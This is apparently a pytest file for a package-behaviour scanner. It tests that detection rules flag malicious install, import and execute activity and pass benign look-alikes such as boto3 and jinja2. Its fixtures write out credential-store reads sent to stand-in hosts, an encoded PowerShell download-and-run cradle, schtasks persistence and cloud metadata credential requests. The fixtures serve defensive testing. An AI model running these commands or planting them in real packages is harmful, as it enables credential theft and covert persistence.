"""Dynamic rules in context: who acted, in which phase and world, and what followed.

Over the recorded benign report (tests/fixtures/verdict) with events added: each context rule
fires on the evasion and not on its benign look-alike (an SDK reading its own credentials in
execute with nothing sent, a build chmod-ing folders, a cache folder)."""

from __future__ import annotations

import base64
import copy

import pytest

from pkgtrace.verdict import judge

from .test_dynamic_rules import BENIGN, recorded


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _ps_enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _cmd(*argv):
    return {"pid": 77, "argv": list(argv), "env": [], "exe": argv[0], "time": "00:00:00"}


def _read(path):
    return {"path": path, "read": True, "write": False, "delete": False}


def _http(host, target="/up", method="POST"):
    return {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": host,
            "http": {"method": method, "target": target, "host": host, "headers": []}}


def _imds(target, host="169.254.169.254", dst="169.254.169.254", hostname=""):
    return {"kind": "tcp", "dst": dst, "port": 80, "hostname": hostname,
            "http": {"method": "GET", "target": target, "host": host, "headers": []}}


def _written(path, text):
    return {"path": path, "state": "present", "traced": True, "type": "file", "size": len(text),
            "head_kind": "text", "head_text": text}


AWS = "/root/.aws/credentials"
DISCORD = "/root/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb"

# rule: (phase, [(list, event)…] that must fire it, [(list, event)…] look-alike that must not)
CONTEXT_EVENTS = {
    "DYN-BAIT-READ-EXECUTE": ("execute", [("files", _read(AWS))],
                              [("files", _read("/root/.aws/config"))]),
    "DYN-CREDENTIAL-THEFT": ("execute", [("files", _read(AWS)), ("network", _http("collect.example"))],
                             [("files", _read(AWS))]),
    "DYN-WINDOWS-TOOL": ("import", [("commands", _cmd("/bin/sh", "-c", "wmic csproduct get uuid")),
                                    ("commands", _cmd("wmic", "csproduct", "get", "uuid"))],
                         [("commands", _cmd("/usr/bin/uname", "-a"))]),
    "DYN-POWERSHELL-ENCODED": ("import", [("commands", _cmd("powershell.exe", "-NoP", "-enc",
                                                            _ps_enc("Get-Process")))],
                               [("commands", _cmd("powershell", "-NoProfile", "-Command", "Get-Date"))]),
    "DYN-WINDOWS-PERSISTENCE": ("install", [("commands", _cmd(
        "schtasks", "/create", "/tn", "Updater", "/tr", "C:\\Users\\x\\AppData\\upd.exe", "/sc", "onlogon"))],
                                [("commands", _cmd("schtasks", "/query"))]),
    "DYN-WINDOWS-PERSISTENCE-ENCODED": ("import", [("commands", _cmd(
        "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                        [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
    "DYN-POWERSHELL-HIDDEN": ("import", [("commands", _cmd(
        "powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File",
        "C:\\Users\\x\\AppData\\Local\\Temp\\ab.ps1")), ("commands", _cmd("pwsh", "-w", "1", "-c", "x")),
        ("commands", _cmd("powershell", "-ep", "bypass", "-c", "x"))],
                              [("commands", _cmd("powershell", "-NoProfile", "-Command",
                                                 "Get-ItemProperty HKCU:\\Software\\hidden -Name WindowStyle")),
                               ("commands", _cmd("powershell", "-ExecutionPolicy", "RemoteSigned", "-File", "build.ps1"))]),
    "DYN-BROWSER-EXTENSION-DROP": ("install", [("written_files", _written(
        "/root/AppData/Roaming\\Extension\\manifest.json",
        '{"name": "Windows","background": {"scripts": ["background.js"]},"version": "1","manifest_version": 2,'
        '"permissions": ["clipboardWrite", "clipboardRead"]}'))],
                                   # a web app's manifest, and an extension inside the installed package
                                   [("written_files", _written("/root/app/static/manifest.json",
                                                               '{"name": "Docs", "start_url": "/", "display": "standalone"}')),
                                    ("written_files", _written(
                                        "/home/alex/.venv/lib/python3.11/site-packages/ext/manifest.json",
                                        '{"manifest_version": 3, "name": "helper"}'))]),
    "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "hooks.example.com",
        "http": {"method": "POST", "target": "/", "host": "hooks.example.com", "headers": [],
                 "body_b64": _b64("BAIT_AWS_SECRET")}})],
                                  [("network", _http("hooks.example.com"))]),
    "DYN-PERSONA-STARTUP-WRITE": ("import", [("files", {
        "path": "/root/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.bat",
        "read": False, "write": True, "delete": False})],
                                  [("files", {"path": "/root/AppData/Local/Temp/pip-x.log", "read": False,
                                              "write": True, "delete": False})]),
    # a CI runner's role credentials, asked for at import under a Host header that hides the address
    "DYN-CLOUD-METADATA-CREDENTIALS": ("import", [("network", _imds("/latest/meta-data/iam/security-credentials/",
                                                                 host="example.org"))],
                                       [("network", _imds("/latest/meta-data/placement/region"))]),
    # fustor-core's daemon_launcher, called by the execute phase, starts the daemon it is for
    "DYN-LEFT-RUNNING-EXECUTE": ("execute", [("left_running", {"pid": 20, "ppid": 1, "name": "python"})],
                                 [("commands", _cmd("/bin/sleep", "1"))]),
}


def _with(events, phase: str, world: str | None = None) -> dict:
    docs = recorded(BENIGN)
    del docs["dynamic"]  # the report section is the richer source
    dyn = docs["report"]["dynamic"]
    dyn["bait"]["values"].append({"what": "aws_secret_access_key", "value": "BAIT_AWS_SECRET"})
    empty = copy.deepcopy(dyn["phases"]["import"]) | {"files": [], "commands": [], "network": [], "dns": [],
                                                       "file_events": [], "left_running": [], "failed": []}
    if world:
        target = dyn.setdefault("worlds", {}).setdefault(world, {"phases": {}})["phases"]
        target[phase] = copy.deepcopy(empty)
    else:
        target = dyn["phases"]
        target.setdefault(phase, copy.deepcopy(empty))
    for key, event in events:
        target[phase].setdefault(key, []).append(event)
    return docs


@pytest.mark.parametrize("rule", sorted(CONTEXT_EVENTS))
def test_context_rule_fires_on_event_and_not_on_lookalike(rule):
    phase, bad, good = CONTEXT_EVENTS[rule]
    v = judge(_with(bad, phase), suppressions=[])
    assert rule in v["rules_fired"], v["findings"]
    f = next(f for f in v["findings"] if f["rule"] == rule)
    assert f["source"] == "dynamic" and f["phase"] == phase and f["evidence"]
    v = judge(_with(good, phase), suppressions=[])
    assert rule not in v["rules_fired"], v["findings"]


@pytest.mark.parametrize("path", [AWS, DISCORD, "/root/.ssh/id_ed25519", "/root/Desktop/passwords.txt",
                                  "/root/.config/google-chrome/Default/Login Data"])
def test_one_list_of_credential_stores_for_every_phase_and_the_theft(path):
    # the rules of each phase and the read-then-send theft name the same stores
    assert "DYN-BAIT-READ" in judge(_with([("files", _read(path))], "import"), suppressions=[])["rules_fired"]
    assert "DYN-BAIT-READ-EXECUTE" in judge(_with([("files", _read(path))], "execute"),
                                            suppressions=[])["rules_fired"]
    stolen = judge(_with([("files", _read(path)), ("network", _http("sink.example"))], "execute"), suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" in stolen["rules_fired"], stolen["findings"]
    for lookalike in ("/root/.aws/config", "/root/.ssh/known_hosts"):  # beside them, no secret
        assert "DYN-BAIT-READ" not in judge(_with([("files", _read(lookalike))], "import"),
                                            suppressions=[])["rules_fired"]


def test_sdk_reading_its_own_credentials_in_execute_is_benign():
    v = judge(_with([("files", _read(AWS)), ("files", _read("/root/.pypirc"))], "execute"), suppressions=[])
    assert v["label"] == "benign", v["findings"]
    assert "DYN-BAIT-READ" not in v["rules_fired"]


def test_the_same_read_followed_by_a_send_is_theft():
    v = judge(_with([("files", _read(AWS)), ("network", _http("sink.example"))], "execute"), suppressions=[])
    assert v["label"] == "malicious", v["findings"]
    theft = next(f for f in v["findings"] if f["rule"] == "DYN-CREDENTIAL-THEFT")
    assert AWS in theft["evidence"]["read"] and "sink.example" in theft["evidence"]["sent"]


def test_a_call_pkgtrace_pointed_at_its_own_destination_is_not_network_or_theft():
    # an HTTP client's get(url) in execute, after an SDK read: pkgtrace chose that destination
    v = judge(_with([("files", _read(AWS)), ("network", _http("hooks.example.com"))], "execute"),
              suppressions=[])
    assert v["label"] == "benign", v["findings"]
    assert not {"DYN-NETWORK-EXECUTE", "DYN-CREDENTIAL-THEFT"} & set(v["rules_fired"])


def test_a_send_to_the_registry_after_a_read_is_not_theft():
    allowed = {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"}, "allowed": True}
    v = judge(_with([("files", _read(AWS)), ("network", allowed)], "execute"), suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" not in v["rules_fired"]


def test_credentials_read_at_install_or_import_stay_critical():
    for phase in ("install", "import"):
        v = judge(_with([("files", _read(DISCORD))], phase), suppressions=[])
        assert "DYN-BAIT-READ" in v["rules_fired"] and v["label"] == "malicious", (phase, v["findings"])


def test_dropped_executable_exclusions_follow_the_package_users_layout():
    def fired(path):
        event = {"op": "chmod", "path": path, "mode": "0o755", "executable": True}
        return "DYN-DROP-EXECUTABLE" in judge(_with([("file_events", event)], "install"),
                                              suppressions=[])["rules_fired"]
    # the package user's install targets (sandbox/layout.py): pip's console scripts, npm's bins
    assert not fired("/home/alex/.venv/bin/pkg-cli")
    assert not fired("/home/alex/app/node_modules/.bin/tool")
    assert not fired("/home/alex/.local/bin/tool")
    # evasion: the drivers' working folder and the old layout's paths are no hiding place
    assert fired("/work/payload")
    assert fired("/home/alex/.local/share/autostart-helper")
    assert fired("/tmp/.cache-x/miner")


def test_chmod_of_a_folder_is_not_a_dropped_executable():
    folder = [("file_events", {"op": "mkdir", "path": "/tmp/_jinja2-cache-0"}),
              ("file_events", {"op": "chmod", "path": "/tmp/_jinja2-cache-0", "mode": "0o700", "executable": True})]
    v = judge(_with(folder, "execute"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
    # a build's folder whose files were written into (frozenlist, yarl) is a folder too
    build = [("files", {"path": "/tmp/build-x7/frozenlist/_frozenlist.c", "read": False, "write": True,
                        "delete": False}),
             ("file_events", {"op": "chmod", "path": "/tmp/build-x7/frozenlist", "mode": "0o755",
                              "executable": True})]
    v = judge(_with(build, "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
    # evasion: a file named like a folder, with nothing inside it, is still a dropped executable
    drop = [("file_events", {"op": "chmod", "path": "/tmp/_jinja2-cache-0", "mode": "0o755", "executable": True})]
    v = judge(_with(drop, "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" in v["rules_fired"]


def test_behaviour_seen_only_in_another_world_is_judged_and_says_where():
    v = judge(_with([("files", _read(AWS)), ("network", _http("ci-sink.example"))], "import", world="ci"),
              suppressions=[])
    assert v["label"] == "malicious", v["findings"]
    f = next(f for f in v["findings"] if f["rule"] == "DYN-BAIT-READ")
    assert f["evidence"]["world"] == "ci" and f["phase"] == "import"


# Recorded from real popular releases (see each fixture's "recorded" field): the benign look-alikes
# the issue names. boto3 and distlib read their own credentials when their functions are called;
# jinja2 makes its bytecode cache folder private (chmod 0700, the x bit of a folder).
LOOKALIKES = {"dynamic-pypi-boto3-benign.json": AWS, "dynamic-pypi-distlib-benign.json": "/root/.pypirc",
              "dynamic-pypi-jinja2-benign.json": None}


# These were recorded when package code ran as root with pip's venv at /opt/pkgtrace/venv; the
# package user's venv is at /home/alex/.venv today (sandbox/layout.py): the install target moves.
_OLD_LAYOUT = {"/opt/pkgtrace/venv/": "/home/alex/.venv/"}


def _recorded_lookalike(name: str) -> dict:
    import json
    from pathlib import Path
    text = (Path(__file__).parent.parent / "fixtures" / "verdict" / name).read_text()
    for old, new in _OLD_LAYOUT.items():
        text = text.replace(old, new)
    return {"report": json.loads(text)["report"]}


@pytest.mark.parametrize("name", sorted(LOOKALIKES))
def test_recorded_popular_lookalikes_are_benign(name):
    docs = _recorded_lookalike(name)
    execute = docs["report"]["dynamic"]["phases"]["execute"]
    read = LOOKALIKES[name]
    if read:  # the recording really holds the SDK's read in execute
        assert read in {f["path"] for f in execute["files"] if f["read"]}
    else:
        assert any(e["op"] == "chmod" and e["executable"] for e in execute["file_events"])
    v = judge(docs, suppressions=[])
    assert v["label"] == "benign", v["findings"]
    assert set(v["rules_fired"]) <= {"DYN-BAIT-READ-EXECUTE"}


@pytest.mark.parametrize("name", sorted(n for n, r in LOOKALIKES.items() if r))
def test_recorded_sdk_read_followed_by_an_upload_is_theft(name):
    # the evasion: the same run with the credentials then sent to a host of the package's choosing
    docs = _recorded_lookalike(name)
    docs["report"]["dynamic"]["phases"]["execute"]["network"].append(_http("sink.example"))
    v = judge(docs, suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" in v["rules_fired"] and v["label"] == "malicious"


def test_recorded_cache_folder_chmod_is_benign_but_a_chmod_file_outside_is_not():
    docs = _recorded_lookalike("dynamic-pypi-jinja2-benign.json")
    events = docs["report"]["dynamic"]["phases"]["execute"]["file_events"]
    events.append({"op": "chmod", "path": "/tmp/.x/payload", "mode": "0o755", "executable": True})
    v = judge(docs, suppressions=[])
    hits = [f for f in v["findings"] if f["rule"] == "DYN-DROP-EXECUTABLE"]
    assert [f["evidence"]["path"] for f in hits] == ["/tmp/.x/payload"]


def test_a_script_written_where_a_folder_was_is_not_a_folder():
    # evasion of the folder exemption: mkdir X, rmdir X, write a script at X, chmod +x X
    path = "/tmp/build-k2/frozenlist"
    mkdir = ("file_events", {"op": "mkdir", "path": path})
    chmod = ("file_events", {"op": "chmod", "path": path, "mode": "0o755", "executable": True})
    write = ("files", {"path": path, "read": False, "write": True, "delete": False, "ops": ["open"]})
    v = judge(_with([mkdir, write, chmod], "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" in v["rules_fired"]
    # the same through a rename of a script written elsewhere onto the folder's name
    staged = ("files", {"path": "/tmp/build-k2/.s", "read": False, "write": True, "delete": False,
                       "ops": ["open"]})
    rename = ("file_events", {"op": "rename", "path": path, "from": "/tmp/build-k2/.s"})
    v = judge(_with([mkdir, staged, rename, chmod], "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" in v["rules_fired"]
    # a folder the build made and chmod-ed stays a folder
    v = judge(_with([mkdir, chmod], "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
    # a chmod counts as a write of the folder in the trace's file list; that keeps it a folder
    touched = ("files", {"path": path, "read": False, "write": True, "delete": False, "ops": ["chmod"]})
    v = judge(_with([mkdir, touched, chmod], "install"), suppressions=[])
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]


def test_windows_tools_run_where_the_code_was_told_it_runs_on_windows_are_judged_by_what_they_do():
    # in the windows world (dynamic/worlds.py) Windows code calls Windows' tools: `cmd /c ver`,
    # a powershell query, are what such code does (the benign look-alike) ...
    plain = [("commands", _cmd("cmd", "/c", "ver")),
             ("commands", _cmd("powershell", "-NoProfile", "-Command", "(Get-Item .).FullName"))]
    v = judge(_with(plain, "import", world="windows"), suppressions=[])
    assert v["label"] == "benign", v["findings"]
    # ... the same calls in the base world, where the code was told the truth (Linux), are not
    assert {"DYN-WINDOWS-TOOL", "DYN-DOWNLOADER"} <= set(judge(_with(plain, "import"), suppressions=[])["rules_fired"])
    # and what a tool is asked to do still counts in the windows world: hidden, encoded, persistent
    bad = [("commands", _cmd("powershell.exe", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-File",
                             "C:\\Temp\\ab.ps1")),
           ("commands", _cmd("powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"))),
           ("commands", _cmd("schtasks", "/create", "/tn", "U", "/tr", "C:\\u.exe", "/sc", "onlogon"))]
    v = judge(_with(bad, "import", world="windows"), suppressions=[])
    assert {"DYN-POWERSHELL-HIDDEN", "DYN-POWERSHELL-ENCODED", "DYN-WINDOWS-PERSISTENCE"} <= set(v["rules_fired"])
    assert v["label"] == "malicious"
    assert {f["evidence"].get("world") for f in v["findings"] if f["source"] == "dynamic"} == {"windows"}


def test_an_extension_a_helper_builds_when_called_is_not_a_drop():
    # selenium-style proxy-auth helpers write manifest.json + background.js when their function runs
    helper = _written("/tmp/proxy_auth_plugin/manifest.json",
                      '{"version": "1.0.0", "manifest_version": 2, "name": "Chrome Proxy", "permissions": ["proxy"]}')
    v = judge(_with([("written_files", helper)], "execute"), suppressions=[])
    assert "DYN-BROWSER-EXTENSION-DROP" not in v["rules_fired"] and v["label"] == "benign", v["findings"]


def test_a_world_ended_by_the_runs_budget_is_a_flood_only_when_it_logged_more_than_its_base():
    def judged(world_bytes: int, budget: str = "run") -> set[str]:
        docs = _with([], "execute", world="later")
        dyn = docs["report"]["dynamic"]
        dyn["phases"].setdefault("execute", copy.deepcopy(dyn["phases"]["import"]))["trace_bytes"] = 30 << 20
        dyn["worlds"]["later"]["phases"]["execute"].update(limit="trace", trace_budget=budget,
                                                            trace_bytes=world_bytes,
                                                            left_running=[{"pid": 9, "ppid": 1, "name": "python3"}])
        return set(judge(docs, suppressions=[])["rules_fired"])
    # a big package looked at in several worlds: the run spent its budget, the world did not flood,
    # and what was running when pkgtrace cut the phase was not left running by the package
    assert not {"DYN-TRACE-FLOOD-EXECUTE", "DYN-LEFT-RUNNING-EXECUTE"} & judged(27 << 20)
    assert "DYN-TRACE-FLOOD-EXECUTE" not in judged(0)  # not started at all
    # the world logged more than the base did (what only it shows, made into a flood), or ran
    # into its own phase's budget: a flood
    assert {"DYN-TRACE-FLOOD-EXECUTE", "DYN-LEFT-RUNNING-EXECUTE"} <= judged(60 << 20)
    assert {"DYN-TRACE-FLOOD-EXECUTE", "DYN-LEFT-RUNNING-EXECUTE"} <= judged(20 << 20, budget="phase")


def _cut_install(limit: str, left: list[tuple[int, int, str]], argv: dict[int, list[str]]) -> set[str]:
    """An install phase a limit ended with LEFT (pid, ppid, name) still running, ARGV what the
    trace saw each of them run."""
    docs = _with([], "install")
    dyn = docs["report"]["dynamic"]
    dyn["phases"]["install"].update(limit=limit, trace_budget="phase" if limit == "trace" else None,
                                    left_running=[{"pid": p, "ppid": pp, "name": n} for p, pp, n in left])
    dyn["processes"] = [{"pid": p, "ppid": pp, "phase": "install", "argv": argv.get(p, [])} for p, pp, _n in left]
    # (one finding per message: each process gets its own name here)
    return {f["evidence"].get("pid") for f in judge(docs, suppressions=[])["findings"]
            if f["rule"] == "DYN-LEFT-RUNNING"}


PIP = ["/home/alex/.venv/bin/python", "-m", "pip", "install", "--no-input", "/work/x.whl"]


def test_what_a_limit_cut_short_is_not_what_the_package_left_running():
    driver, pip = (8, 0, "python3"), (9, 8, "python")
    argv = {8: ["/usr/bin/python3", "-I", "-S", "/pkgtrace/guest/pypi.py", "install"], 9: PIP}
    # a big install cut by the trace limit: the driver and pip were at work, not left behind
    assert _cut_install("trace", [driver, pip], argv) == set()
    # ... but a daemon the package detached (reparented to init) still is
    assert _cut_install("trace", [driver, pip, (30, 1, "daemon")], argv) == {30}
    # cut by the clock: pkgtrace's driver and the pip it started are not the package's; the build
    # under pip (a setup.py sleeping past the limit) and a detached daemon are
    assert _cut_install("time", [driver, pip, (11, 9, "build"), (12, 11, "setup"), (30, 1, "daemon")],
                        argv) == {11, 12, 30}


def test_a_package_process_that_looks_like_the_package_manager_is_still_its_own():
    driver = (8, 0, "python3")
    argv = {8: ["/usr/bin/python3", "-I", "-S", "/pkgtrace/guest/pypi.py", "install"], 9: PIP, 11: PIP,
            10: ["/home/alex/.venv/bin/python", "setup.py", "install"]}
    # the package's setup.py running `python -m pip install` under pip: not the driver's child
    assert _cut_install("time", [driver, (9, 8, "pip"), (11, 9, "python")], argv) == {11}
    # the driver's fallback running setup.py itself: the driver's child, but not a package manager
    assert _cut_install("time", [driver, (10, 8, "python")], argv) == {10}
    # a phase that ended on its own: whatever is still there was left behind, the driver's tree too
    assert _cut_install(None, [(9, 8, "python"), (30, 1, "sh")], argv) == {9, 30}


def test_a_daemon_left_by_the_execute_phase_is_weaker_evidence_than_one_left_at_import():
    daemon = ("left_running", {"pid": 20, "ppid": 1, "name": "python"})
    v = judge(_with([daemon], "execute"), suppressions=[])
    assert "DYN-LEFT-RUNNING" not in v["rules_fired"] and v["label"] == "benign", v["findings"]
    v = judge(_with([daemon], "import"), suppressions=[])
    assert "DYN-LEFT-RUNNING" in v["rules_fired"] and v["label"] != "benign", v["findings"]


def test_metadata_service_credentials_by_any_name_and_only_where_no_sdk_was_called():
    def fired(event, phase):
        return "DYN-CLOUD-METADATA-CREDENTIALS" in judge(_with([("network", event)], phase),
                                                        suppressions=[])["rules_fired"]
    gcp = "/computeMetadata/v1/instance/service-accounts/default/token"
    # Google's name, resolved through the simulator's DNS to one of its own addresses
    assert fired(_imds(gcp, host="metadata.google.internal", dst="198.18.0.7",
                       hostname="metadata.google.internal"), "install")
    assert fired(_imds("/metadata/identity/oauth2/token?resource=x", host="169.254.169.254:80"), "import")
    # an SDK the execute phase called may look its credentials up there: DYN-NETWORK-EXECUTE's matter
    assert not fired(_imds("/latest/meta-data/iam/security-credentials/"), "execute")
    # a host that only contains the address is another host
    assert not fired(_imds(gcp, host="169.254.169.254.evil.example", dst="198.18.0.8"), "install")


def test_a_credential_read_then_another_ecosystems_registry_is_not_theft():
    # jupyterlab's calls run npm, which reads ~/.npmrc and asks registry.npmjs.org (not this PyPI
    # run's registry, so not passed through): npm at work, not a thief
    npmrc = ("files", _read("/root/.npmrc"))
    v = judge(_with([npmrc, ("network", _http("registry.npmjs.org", "/react", "GET"))], "execute"),
              suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" not in v["rules_fired"], v["findings"]
    # a name that only starts like a registry is another host
    v = judge(_with([npmrc, ("network", _http("registry.npmjs.org.collect.example"))], "execute"),
              suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" in v["rules_fired"], v["findings"]


def test_npm_run_by_a_pypi_packages_calls_reads_npmrc_as_npm_does():
    npmrc = ("files", _read("/root/.npmrc"))
    v = judge(_with([npmrc], "execute"), suppressions=[])  # jupyterlab's builder runs yarn and npm
    assert "DYN-NPMRC-READ-BY-PACKAGE" not in v["rules_fired"] and "DYN-BAIT-READ-EXECUTE" in v["rules_fired"]
    assert v["label"] == "benign", v["findings"]
    # at import nothing runs npm; and whatever read it, sending afterwards is theft
    assert "DYN-NPMRC-READ-BY-PACKAGE" in judge(_with([npmrc], "import"), suppressions=[])["rules_fired"]
    v = judge(_with([npmrc, ("network", _http("collect.example"))], "execute"), suppressions=[])
    assert "DYN-CREDENTIAL-THEFT" in v["rules_fired"] and v["label"] == "malicious", v["findings"]
